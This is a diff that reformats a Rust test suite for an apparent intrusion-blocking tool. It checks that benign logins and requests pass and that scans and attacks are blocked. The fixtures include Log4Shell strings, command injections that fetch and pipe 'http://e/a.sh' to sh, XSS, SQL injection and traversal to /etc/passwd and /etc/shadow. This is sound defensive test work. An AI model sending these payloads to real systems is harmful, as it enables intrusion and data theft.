@@ -208,27 +208,76 @@ async fn assert_all(cases: impl IntoIterator<Item = Case>, blocked: bool) {
 async fn honest_logins_pass() {
     assert_all(
         [
-            sshd("four mistypes, then right", 5, [times(4, |_| failed("ann")), vec![accepted("ann")]].concat()),
+            sshd(
+                "four mistypes, then right",
+                5,
+                [times(4, |_| failed("ann")), vec![accepted("ann")]].concat(),
+            ),
             sshd("an office of five, one mistype each", 20, office(1)),
             sshd("an office of five, two mistypes each", 20, office(2)),
-            sshd("an agent of five keys", 1, [times(5, |n| refused_key("ann", n)), vec![accepted_key("ann")]].concat()),
-            sshd("an agent of five keys and a mistyped name", 1, times(5, |n| refused_key("invalid user an", n))),
-            sshd("a build machine with a wrong key first", 1, times(300, |n| match n % 3 {
-                0 | 1 => refused_key("ci", n),
-                _ => accepted_key("ci"),
-            })),
+            sshd(
+                "an agent of five keys",
+                1,
+                [times(5, |n| refused_key("ann", n)), vec![accepted_key("ann")]].concat(),
+            ),
+            sshd(
+                "an agent of five keys and a mistyped name",
+                1,
+                times(5, |n| refused_key("invalid user an", n)),
+            ),
+            sshd(
+                "a build machine with a wrong key first",
+                1,
+                times(300, |n| match n % 3 {
+                    0 | 1 => refused_key("ci", n),
+                    _ => accepted_key("ci"),
+                }),
+            ),
             sshd("a build machine by key", 1, times(400, |_| accepted_key("ci"))),
-            sshd("a monitor that closes the port", 20, times(90, |_| "Connection closed by @ [preauth]".to_owned())),
-            sshd("a monitor that says nothing", 5, times(90, |_| "Did not receive identification string from @".to_owned())),
-            sshd("a health check of another protocol", 10, times(60, |_| "banner exchange: Connection from @: invalid format".to_owned())),
-            sshd("a job whose key was revoked", 30, times(60, |_| "Connection closed by authenticating user backup @ [preauth]".to_owned())),
-            sshd("a job whose user was taken off the list", 60, times(120, |_| {
-                "User backup from @ not allowed because not listed in AllowUsers".replace('@', CLIENT)
-            })),
-            sshd("an agent with too many keys, five times", 30, times(5, |_| "error: maximum authentication attempts exceeded for ann from @ ssh2 [preauth]".to_owned())),
-            sshd("a forgotten user name of a rented machine", 10, ["admin", "ubuntu", "debian", "ec2-user", "centos"].iter().flat_map(|user| {
-                [format!("Invalid user {user} from @"), format!("Connection closed by invalid user {user} @ [preauth]")]
-            })),
+            sshd(
+                "a monitor that closes the port",
+                20,
+                times(90, |_| "Connection closed by @ [preauth]".to_owned()),
+            ),
+            sshd(
+                "a monitor that says nothing",
+                5,
+                times(90, |_| "Did not receive identification string from @".to_owned()),
+            ),
+            sshd(
+                "a health check of another protocol",
+                10,
+                times(60, |_| "banner exchange: Connection from @: invalid format".to_owned()),
+            ),
+            sshd(
+                "a job whose key was revoked",
+                30,
+                times(60, |_| "Connection closed by authenticating user backup @ [preauth]".to_owned()),
+            ),
+            sshd(
+                "a job whose user was taken off the list",
+                60,
+                times(120, |_| {
+                    "User backup from @ not allowed because not listed in AllowUsers".replace('@', CLIENT)
+                }),
+            ),
+            sshd(
+                "an agent with too many keys, five times",
+                30,
+                times(5, |_| {
+                    "error: maximum authentication attempts exceeded for ann from @ ssh2 [preauth]".to_owned()
+                }),
+            ),
+            sshd(
+                "a forgotten user name of a rented machine",
+                10,
+                ["admin", "ubuntu", "debian", "ec2-user", "centos"].iter().flat_map(|user| {
+                    [
+                        format!("Invalid user {user} from @"),
+                        format!("Connection closed by invalid user {user} @ [preauth]"),
+                    ]
+                }),
+            ),
             sshd("one mistyped name, three passwords", 5, times(3, |_| failed("invalid user amm"))),
         ],
         false,
@@ -290,10 +339,19 @@ async fn honest_searches_pass() {
             Visit::typed("prose", "cats and dogs like bones"),
             Visit::typed("prose with an apostrophe", "O'Brien or O'Neill; rock 'n' roll"),
             Visit::typed("prose with a dash and a number", "it's #1 -- o'brien--smith"),
-            Visit::typed("prose with union and select", "trade union select 5 committee members, from 1 to 9"),
-            Visit::typed("SQL", "SELECT name FROM users WHERE a = 1 AND b = 2 UNION SELECT 1, 2; DROP TABLE x"),
+            Visit::typed(
+                "prose with union and select",
+                "trade union select 5 committee members, from 1 to 9",
+            ),
+            Visit::typed(
+                "SQL",
+                "SELECT name FROM users WHERE a = 1 AND b = 2 UNION SELECT 1, 2; DROP TABLE x",
+            ),
             Visit::typed("SQL about sleeping", "how does select sleep(5) and benchmark(1,2) work"),
-            Visit::typed("a shell", "what is the difference of $(id) and `id`; curl https://example.org/a.sh | sh"),
+            Visit::typed(
+                "a shell",
+                "what is the difference of $(id) and `id`; curl https://example.org/a.sh | sh",
+            ),
             Visit::typed("code", "function main() { return a && b || c; }"),
             Visit::typed("Python", "time.sleep(10) in a thread and join()"),
             Visit::typed("JavaScript", "alert('hello') and document.cookie onload= javascript:"),
@@ -306,8 +364,14 @@ async fn honest_searches_pass() {
             Visit::typed("PHP streams", "php://input is empty"),
             Visit::typed("a build error", "Module not found: can't resolve '../../../../components/x'"),
             Visit::typed("dots", "wait.... what ../ means"),
-            VISIT.of("a lesson about the password file", &["/search?q=/etc/passwd", "/search?q=/etc/shadow", "/wiki//etc/passwd"]),
-            VISIT.of("tautologies in prose", &["/s?q=you+and+me+%3D+love", "/s?q=this+or+that+%3D+x", "/s?q=1+and+1+%3D+2"]),
+            VISIT.of(
+                "a lesson about the password file",
+                &["/search?q=/etc/passwd", "/search?q=/etc/shadow", "/wiki//etc/passwd"],
+            ),
+            VISIT.of(
+                "tautologies in prose",
+                &["/s?q=you+and+me+%3D+love", "/s?q=this+or+that+%3D+x", "/s?q=1+and+1+%3D+2"],
+            ),
         ],
         false,
     )
@@ -318,47 +382,106 @@ async fn honest_searches_pass() {
 async fn honest_applications_pass() {
     assert_all(
         [
-            VISIT.many("Jira", 9, |n| format!("/rest/api/2/search?jql=project+%3D+ABC+AND+status+%3D+Done&n={n}")),
-            VISIT.many("Jira with quotes", 9, |n| format!("/rest/api/2/search?jql=%22Epic+Link%22%3D%22ABC-{n}%22+AND+%22Team%22%3D%22Web%22")),
-            VISIT.many("PromQL", 9, |n| format!("/api/v1/query?query=up+and+on(job)+node_load1+%3E+{n}")),
-            VISIT.many("Grafana", 9, |n| format!("/explore?left=%7B%22queries%22:[%7B%22expr%22:%22a%20and%20b%20%3E%20{n}%22%7D]%7D")),
-            VISIT.many("OData", 9, |n| format!("/odata/Products?$filter=Price+gt+{n}+and+Name+eq+'x'+or+startswith(Name,'a')")),
-            VISIT.many("GraphQL", 9, |n| format!("/graphql?query=%7Buser(id:%22{n}%22)%7Bname,posts(first:5)%7Bid%7D%7D%7D")),
-            VISIT.many("Kibana", 9, |n| format!("/s?q=status:50{n}+AND+host:web+OR+(a:1+AND+b:%22x%22)")),
-            VISIT.many("fields of an API", 9, |n| format!("/w/api.php?prop=info|id&rvprop=timestamp|user|ids&titles=A{n}|B")),
-            VISIT.many("a database console", 9, |n| {
-                format!("/sql.php?db=x&sql_query=SELECT+*+FROM+t+WHERE+a%3D1+OR+b%3D%60id%60+ORDER+BY+1&pos={n}")
+            VISIT.many("Jira", 9, |n| {
+                format!("/rest/api/2/search?jql=project+%3D+ABC+AND+status+%3D+Done&n={n}")
             }),
-            VISIT.of("a database console sorts", &["/t?order=%60id%60", "/t?fields=name|id", "/t?order=%60name%60"]),
-            VISIT.of("a console edits files", &["/edit.cgi?file=/etc/hosts", "/?folder=/etc/nginx", "/?uri=file:///home/ann/x.ts", "/?file=./etc/app.ini"]),
-            MISSING.many("a client that looks for records", 60, |n| format!("/api/items/{n:08x}-0000-4000-8000-000000000000")),
-            MISSING.of("a crawler of careless links", &[r"/..\\images\\a.gif", "/..%5Cimages%5Cb.gif", "/a/../b"]),
-            VISIT.of("WordPress at work", &[
-                "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils",
-                "/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php",
-                "/wp-admin/admin-ajax.php?action=heartbeat",
-                "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
-            ]),
-            VISIT.of("a relative link to return to", &["/login?next=../../dashboard", "/login?next=%2E%2E%2F%2E%2E%2Fdash"]),
-            VISIT.of("GitLab", &[
-                "/api/v4/projects/group%2Fproject/repository/files/..%2FREADME/raw?ref=main",
-                "/g/p/-/compare/main...feature%2Fx",
-            ]),
-            VISIT.of("a repository of dotfiles", &["/u/dots/src/.env", "/u/dots/src/.ssh/config", "/u/dots/src/.htaccess", "/u/dots/blob/etc/passwd"]),
+            VISIT.many("Jira with quotes", 9, |n| {
+                format!("/rest/api/2/search?jql=%22Epic+Link%22%3D%22ABC-{n}%22+AND+%22Team%22%3D%22Web%22")
+            }),
+            VISIT.many("PromQL", 9, |n| format!("/api/v1/query?query=up+and+on(job)+node_load1+%3E+{n}")),
+            VISIT.many("Grafana", 9, |n| {
+                format!("/explore?left=%7B%22queries%22:[%7B%22expr%22:%22a%20and%20b%20%3E%20{n}%22%7D]%7D")
+            }),
+            VISIT.many("OData", 9, |n| {
+                format!("/odata/Products?$filter=Price+gt+{n}+and+Name+eq+'x'+or+startswith(Name,'a')")
+            }),
+            VISIT.many("GraphQL", 9, |n| {
+                format!("/graphql?query=%7Buser(id:%22{n}%22)%7Bname,posts(first:5)%7Bid%7D%7D%7D")
+            }),
+            VISIT.many("Kibana", 9, |n| format!("/s?q=status:50{n}+AND+host:web+OR+(a:1+AND+b:%22x%22)")),
+            VISIT.many("fields of an API", 9, |n| {
+                format!("/w/api.php?prop=info|id&rvprop=timestamp|user|ids&titles=A{n}|B")
+            }),
+            VISIT.many("a database console", 9, |n| {
+                format!(
+                    "/sql.php?db=x&sql_query=SELECT+*+FROM+t+WHERE+a%3D1+OR+b%3D%60id%60+ORDER+BY+1&pos={n}"
+                )
+            }),
+            VISIT.of(
+                "a database console sorts",
+                &["/t?order=%60id%60", "/t?fields=name|id", "/t?order=%60name%60"],
+            ),
+            VISIT.of(
+                "a console edits files",
+                &[
+                    "/edit.cgi?file=/etc/hosts",
+                    "/?folder=/etc/nginx",
+                    "/?uri=file:///home/ann/x.ts",
+                    "/?file=./etc/app.ini",
+                ],
+            ),
+            MISSING.many("a client that looks for records", 60, |n| {
+                format!("/api/items/{n:08x}-0000-4000-8000-000000000000")
+            }),
+            MISSING.of(
+                "a crawler of careless links",
+                &[r"/..\\images\\a.gif", "/..%5Cimages%5Cb.gif", "/a/../b"],
+            ),
+            VISIT.of(
+                "WordPress at work",
+                &[
+                    "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils",
+                    "/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php",
+                    "/wp-admin/admin-ajax.php?action=heartbeat",
+                    "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
+                ],
+            ),
+            VISIT.of(
+                "a relative link to return to",
+                &["/login?next=../../dashboard", "/login?next=%2E%2E%2F%2E%2E%2Fdash"],
+            ),
+            VISIT.of(
+                "GitLab",
+                &[
+                    "/api/v4/projects/group%2Fproject/repository/files/..%2FREADME/raw?ref=main",
+                    "/g/p/-/compare/main...feature%2Fx",
+                ],
+            ),
+            VISIT.of(
+                "a repository of dotfiles",
+                &[
+                    "/u/dots/src/.env",
+                    "/u/dots/src/.ssh/config",
+                    "/u/dots/src/.htaccess",
+                    "/u/dots/blob/etc/passwd",
+                ],
+            ),
             VISIT.of("Chinese in its old encoding", &["/s?kw=%c0%ae", "/s?kw=%C0%AE%B0%C9", "/%c0%ae.html"]),
-            Visit { agent: "git/2.47.3", ..MISSING }.of("git over plain HTTP", &["/p/.git/info/refs", "/p/.git/HEAD", "/p/.git/config", "/p/.git/objects/info/packs"]),
-            Visit { status: 401, gap: 2, ..VISIT }.many("polling without a login", 400, |_| "/api/me".to_owned()),
-            Visit { status: 401, ..VISIT }.many("WebDAV asks without a login first", 60, |n| format!("/dav/{n}.txt")),
+            Visit { agent: "git/2.47.3", ..MISSING }.of(
+                "git over plain HTTP",
+                &["/p/.git/info/refs", "/p/.git/HEAD", "/p/.git/config", "/p/.git/objects/info/packs"],
+            ),
+            Visit { status: 401, gap: 2, ..VISIT }
+                .many("polling without a login", 400, |_| "/api/me".to_owned()),
+            Visit { status: 401, ..VISIT }
+                .many("WebDAV asks without a login first", 60, |n| format!("/dav/{n}.txt")),
             Visit { gap: 20, ..MISSING }.many("a monitor of a missing page", 90, |_| "/healthz".to_owned()),
             Visit { gap: 0, ..MISSING }.many("25 missing links", 25, |n| format!("/old/{n}")),
-            Visit { gap: 0, ..MISSING }.many("a page with many missing pictures", 80, |n| format!("/img/{n}.png")),
+            Visit { gap: 0, ..MISSING }
+                .many("a page with many missing pictures", 80, |n| format!("/img/{n}.png")),
             MISSING.many("missing map tiles", 400, |n| format!("/tiles/12/{n}/7.pbf")),
-            Visit { method: "HEAD", agent: "docker/24.0.7 go/go1.20", ..MISSING }.many("docker push", 60, |n| format!("/v2/app/blobs/sha256:{n:064}")),
+            Visit { method: "HEAD", agent: "docker/24.0.7 go/go1.20", ..MISSING }.many(
+                "docker push",
+                60,
+                |n| format!("/v2/app/blobs/sha256:{n:064}"),
+            ),
             MISSING.many("a build cache", 400, |n| format!("/cas/{n:064x}")),
             MISSING.many("Maven", 200, |n| format!("/repository/internal/org/a/{n}/a-{n}.pom")),
-            Visit { method: "HEAD", ..MISSING }.many("a backup to an object store", 200, |n| format!("/bucket/dir/{n}.bin")),
+            Visit { method: "HEAD", ..MISSING }
+                .many("a backup to an object store", 200, |n| format!("/bucket/dir/{n}.bin")),
             Visit { status: 302, ..POST }.many("a classroom logs in", 30, |_| "/wp-login.php".to_owned()),
-            Visit { gap: 10, ..POST }.many("a service that looks after a site", 60, |_| "/xmlrpc.php".to_owned()),
+            Visit { gap: 10, ..POST }
+                .many("a service that looks after a site", 60, |_| "/xmlrpc.php".to_owned()),
         ],
         false,
     )
@@ -373,12 +496,33 @@ async fn honest_agents_and_flows_pass() {
             Visit::agent("a name that holds another", "my-nikto-report/1.0"),
             Visit::agent("a template that was not filled in", "App/${version} (${os.name})"),
             Visit::agent("a function in the middle", "App/1.0 (function() { })"),
-            Visit { referrer: "https://example.org/?q=function()+{", ..VISIT }.of("a referrer with code", &["/"]),
-            flows("answers of a resolver", 60, |n| Flow { transport: "UDP", from: (CLIENT, 53), to: (SERVER.to_owned(), 20_000 + n), packets: 1 }),
-            flows("answers of a web server", 60, |n| Flow { transport: "TCP", from: (CLIENT, 443), to: (SERVER.to_owned(), 20_000 + n), packets: 3 }),
+            Visit { referrer: "https://example.org/?q=function()+{", ..VISIT }
+                .of("a referrer with code", &["/"]),
+            flows("answers of a resolver", 60, |n| Flow {
+                transport: "UDP",
+                from: (CLIENT, 53),
+                to: (SERVER.to_owned(), 20_000 + n),
+                packets: 1,
+            }),
+            flows("answers of a web server", 60, |n| Flow {
+                transport: "TCP",
+                from: (CLIENT, 443),
+                to: (SERVER.to_owned(), 20_000 + n),
+                packets: 3,
+            }),
             flows("passive FTP", 60, |n| to_port(30_000 + n, 5)),
-            flows("a peer-to-peer client", 60, |n| Flow { transport: "TCP", from: (SERVER, 40_000), to: (format!("192.0.2.{n}"), 20_000 + n), packets: 1 }),
-            flows("mail delivery", 60, |n| Flow { transport: "TCP", from: (SERVER, 40_000 + n), to: (format!("192.0.2.{n}"), 25), packets: 20 }),
+            flows("a peer-to-peer client", 60, |n| Flow {
+                transport: "TCP",
+                from: (SERVER, 40_000),
+                to: (format!("192.0.2.{n}"), 20_000 + n),
+                packets: 1,
+            }),
+            flows("mail delivery", 60, |n| Flow {
+                transport: "TCP",
+                from: (SERVER, 40_000 + n),
+                to: (format!("192.0.2.{n}"), 25),
+                packets: 20,
+            }),
             alerts("answers of a victim", 80, "Attempted Administrator Privilege Gain"),
             alerts("office policy", 40_000, "Potential Corporate Privacy Violation"),
         ],
@@ -401,13 +545,21 @@ async fn scans_and_floods_are_blocked() {
             POST.many("XML-RPC", 60, |_| "/blog/xmlrpc.php".to_owned()),
             Visit::agent("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
             Visit::agent("Nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
-            Visit::agent("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+            Visit::agent(
+                "nmap",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            ),
             Visit::agent("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
             Visit::agent("WPScan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
             Visit::agent("gobuster", "gobuster/3.5"),
             flows("a port scan", 60, |n| to_port(n + 1, 1)),
             flows("a port scan that connects", 60, |n| to_port(n + 1, 3)),
-            flows("a sweep", 60, |n| Flow { transport: "TCP", from: (CLIENT, 40_000 + n), to: (format!("192.0.2.{n}"), 445), packets: 1 }),
+            flows("a sweep", 60, |n| Flow {
+                transport: "TCP",
+                from: (CLIENT, 40_000 + n),
+                to: (format!("192.0.2.{n}"), 445),
+                packets: 1,
+            }),
             alerts("alerts", 40_000, "Attempted Administrator Privilege Gain"),
         ],
         true,
@@ -452,14 +604,20 @@ async fn one_request_is_enough() {
         ("Log4Shell, encoded twice", "/x?a=%2524%257Bjndi:ldap://e%257D"),
         ("Log4Shell in the path", "/$%7Bjndi:ldap://e/a%7D"),
         ("command in place", "/x?ip=$(id)"),
-        ("command in place, router", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
+        (
+            "command in place, router",
+            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
+        ),
         ("command behind a semicolon", "/x?ip=1;wget+http://e/a.sh"),
         ("command behind a bar", "/x?ip=1|cat+/etc/hosts"),
         ("command of a web shell", "/x?c=wget+http://e/a.sh|sh"),
         ("template", "/x?n=%7B%7B7*7%7D%7D"),
         ("template, dollar", "/x?n=$%7B7*7%7D"),
         ("PHPUnit", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
-        ("ThinkPHP", r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
+        (
+            "ThinkPHP",
+            r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
+        ),
         ("a shell as CGI", "/cgi-bin/bash"),
     ];
     let requests = requests.map(|(name, url)| VISIT.of(name, &[url]));
@@ -504,20 +662,51 @@ async fn injections_are_blocked() {
             each("a comment", "admin'--"),
             each("an error that tells", "1'+and+extractvalue(1,concat(0x7e,version()))--"),
             each("encoded twice", "1%2527%2520or%25201%253D1"),
-            VISIT.of("in the path", &["/p/1'+union+select+1,2--+", "/p/1%20union%20select%201,2,3", "/p/1%20or%201=1", "/p/1%20or%201=2"]),
-            VISIT.of("script", &["/x?q=<script>alert(1)</script>", "/x?q=<ScRiPt+src=//e/x.js>", "/x?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"]),
-            VISIT.of("handlers", &[
-                "/x?q=%3Cimg/src=x+onerror%0a=confirm(1)%3E",
-                "/x?q=%3Cdetails+ontoggle=confirm(1)%3E",
-                "/x?q=%3Cinput+autofocus+onfocus=confirm(1)%3E",
-                "/x?q=<svg/onload=alert(1)>",
-            ]),
-            VISIT.of("script encoded twice", &["/x?a=%253Cscript%253E1", "/x?b=%253Cscript%253E1", "/x?c=%253Cscript%253E1"]),
-            VISIT.of("script as an address", &["/x?u=javascript:alert(1)", "/x?v=javascript:alert(1)", "/x?w=javascript:alert(1)"]),
+            VISIT.of(
+                "in the path",
+                &[
+                    "/p/1'+union+select+1,2--+",
+                    "/p/1%20union%20select%201,2,3",
+                    "/p/1%20or%201=1",
+                    "/p/1%20or%201=2",
+                ],
+            ),
+            VISIT.of(
+                "script",
+                &[
+                    "/x?q=<script>alert(1)</script>",
+                    "/x?q=<ScRiPt+src=//e/x.js>",
+                    "/x?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+                ],
+            ),
+            VISIT.of(
+                "handlers",
+                &[
+                    "/x?q=%3Cimg/src=x+onerror%0a=confirm(1)%3E",
+                    "/x?q=%3Cdetails+ontoggle=confirm(1)%3E",
+                    "/x?q=%3Cinput+autofocus+onfocus=confirm(1)%3E",
+                    "/x?q=<svg/onload=alert(1)>",
+                ],
+            ),
+            VISIT.of(
+                "script encoded twice",
+                &["/x?a=%253Cscript%253E1", "/x?b=%253Cscript%253E1", "/x?c=%253Cscript%253E1"],
+            ),
+            VISIT.of(
+                "script as an address",
+                &["/x?u=javascript:alert(1)", "/x?v=javascript:alert(1)", "/x?w=javascript:alert(1)"],
+            ),
             VISIT.of("system files", &["/d?f=/etc/group", "/d?f=/etc/./passwd", "/d?f=/etc/hosts"]),
-            VISIT.of("system files through a search box", &[
-                "/s?q=../../etc/passwd", "/s?q=../etc/passwd", "/s?q=/etc/shadow", "/s?q=file:///etc/hosts", "/s?q=/proc/self/environ",
-            ]),
+            VISIT.of(
+                "system files through a search box",
+                &[
+                    "/s?q=../../etc/passwd",
+                    "/s?q=../etc/passwd",
+                    "/s?q=/etc/shadow",
+                    "/s?q=file:///etc/hosts",
+                    "/s?q=/proc/self/environ",
+                ],
+            ),
         ],
         true,
     )
